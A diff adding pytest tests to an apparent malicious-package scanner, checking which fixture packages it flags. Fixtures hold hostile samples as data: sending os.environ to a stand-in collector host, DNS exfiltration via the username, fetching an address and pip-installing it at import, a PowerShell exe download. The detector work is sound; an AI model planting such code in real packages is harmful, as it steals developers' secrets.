@@ -90,3 +90,86 @@ def test_a_pth_among_the_tests_is_a_fixture(tmp_path):
     shipped = _scan(tmp_path, "b", {"src/x.pth": "import placeholder\n"})
     assert fixture.verdict == "clean" and "pth-exec" in rules_of(fixture)
     assert shipped.verdict == "malicious"
+
+
+def test_a_module_with_one_broken_line_is_still_read_for_its_calls(tmp_path):
+    # A quote inside a quoted string: the module does not parse as written.
+    body = ("import os, requests\nNOTE = 'a 'broken' note'\n"
+            "requests.get('https://example.invalid/placeholder')\nos.system('placeholder')\n")
+    broken = _scan(tmp_path, "a", {"demo/__init__.py": body})
+    python2 = _scan(tmp_path, "b", {"demo/__init__.py": "import os\n"
+                                    + "print 'placeholder'\n" * 6 + "os.system('placeholder')\n"})
+    assert {"net-call", "proc-exec", "download-exec"} <= rules_of(broken)
+    assert broken.verdict == "malicious"
+    # More broken lines than a careless edit leaves: not Python 3, matched as text only.
+    assert "proc-exec" not in rules_of(python2) and python2.verdict == "clean"
+
+
+def test_a_script_deep_in_the_package_is_data_one_next_to_setup_is_not(tmp_path):
+    script = ("Invoke-WebRequest -Uri https://downloads.placeholder-host.net/placeholder.exe -OutFile $env:TEMP\\p.exe\n"
+              "Remove-Item \"$env:LOCALAPPDATA\\Placeholder\\User Data\\Local State\"\n")
+    deep = _scan(tmp_path, "a", {"demo/driver/bin/reinstall.ps1": script})
+    top = _scan(tmp_path, "b", {"install.ps1": script})
+    assert {"drop-exe-url", "cred-browser"} <= rules_of(deep) and deep.verdict == "clean"
+    assert _weight(top, "drop-exe-url") > _weight(deep, "drop-exe-url")
+
+
+def test_testing_the_environment_for_a_word_is_not_dumping_it(tmp_path):
+    head = "import os\nfrom setuptools import setup\n"
+    tested = _scan(tmp_path, "a", {"setup.py": head + "if 'placeholder' in str(os.environ):\n"
+                                   "    del os.link\nsetup(name='demo')\n"})
+    dumped = _scan(tmp_path, "b", {"setup.py": head + "SNAPSHOT = str(os.environ)\nsetup(name='demo')\n"})
+    assert "cred-env-dump" not in rules_of(tested) and tested.verdict == "clean"
+    assert "cred-env-dump" in rules_of(dumped)
+
+
+def test_powershell_running_the_package_own_script_is_a_build_step(tmp_path):
+    def setup(command):  # noqa: ANN001, ANN202
+        return ("import subprocess\nfrom setuptools import setup\n"
+                f"subprocess.run({command!r})\nsetup(name='demo')\n")
+    build = _scan(tmp_path, "a", {"setup.py": setup(["powershell.exe", ".\\build.ps1"])})
+    hidden = _scan(tmp_path, "b", {"setup.py": setup(["powershell.exe", "-w", "hidden", ".\\build.ps1"])})
+    assert "proc-shell-download" not in rules_of(build) and "proc-exec" in rules_of(build)
+    assert "proc-shell-download" in rules_of(hidden)
+
+
+def test_one_variable_of_the_environment_in_a_request_is_configuration(tmp_path):
+    head = "import os, urllib.request\n"
+    port = _scan(tmp_path, "a", {"demo/check.py": head + "def ok():\n    urllib.request.urlopen("
+                                 "'http://localhost:' + os.environ['PORT'] + os.environ.get('PREFIX', '/'))\n"})
+    whole = _scan(tmp_path, "b", {"demo/check.py": head + "def ok():\n    urllib.request.urlopen("
+                                  "'http://collector.placeholder-host.net/', data=str(os.environ).encode())\n"})
+    assert "cred-env-dump" not in rules_of(port)
+    assert "cred-env-dump" in rules_of(whole)
+
+
+def test_a_package_installed_from_a_fetched_address_at_import_is_download_and_run(tmp_path):
+    head = "import subprocess, requests\n"
+    fetched = _scan(tmp_path, "a", {"demo/__init__.py": head + "def go():\n"
+                                    "    url = requests.get('https://placeholder-host.net/next').text\n"
+                                    "    subprocess.run(['pip', 'install', 'git+' + url])\ngo()\n"})
+    fixed = _scan(tmp_path, "b", {"demo/__init__.py": "import subprocess\ndef go():\n"
+                                  "    subprocess.run(['pip', 'install', 'placeholder-extra'])\ngo()\n"})
+    assert "download-exec" in rules_of(fetched) and fetched.verdict == "malicious"
+    assert "download-exec" not in rules_of(fixed) and fixed.verdict == "clean"
+
+
+def test_looking_up_the_own_host_name_kept_in_an_attribute_is_recon(tmp_path):
+    def module(lookup):  # noqa: ANN001, ANN202
+        return ("import getpass, socket, requests\nclass Run:\n    def __init__(self):\n"
+                "        self.host = socket.gethostname()\n        self.user = getpass.getuser()\n"
+                f"        self.address = socket.gethostbyname({lookup})\n")
+    own = _scan(tmp_path, "a", {"demo/sub/runner.py": module("self.host")})
+    built = _scan(tmp_path, "b", {"demo/sub/runner.py": module("self.user + '.collector.placeholder-host.net'")})
+    assert "net-call" not in rules_of(own) and "exfil-host-data" not in rules_of(own)
+    assert "exfil-dns" in rules_of(built)
+
+
+def test_a_string_only_a_maintainer_command_reaches_is_not_install_time(tmp_path):
+    line = "os.system('placeholder-upload dist/*')  # reads ~/.pypirc\n"
+    head = "import os, sys\nfrom setuptools import setup\n"
+    guarded = _scan(tmp_path, "a", {"setup.py": head + "if sys.argv[-1] == 'publish':\n    " + line
+                                    + "setup(name='demo')\n"})
+    bare = _scan(tmp_path, "b", {"setup.py": head + line + "setup(name='demo')\n"})
+    assert _weight(bare, "cred-files") > _weight(guarded, "cred-files") > 0
+    assert guarded.verdict == "clean"
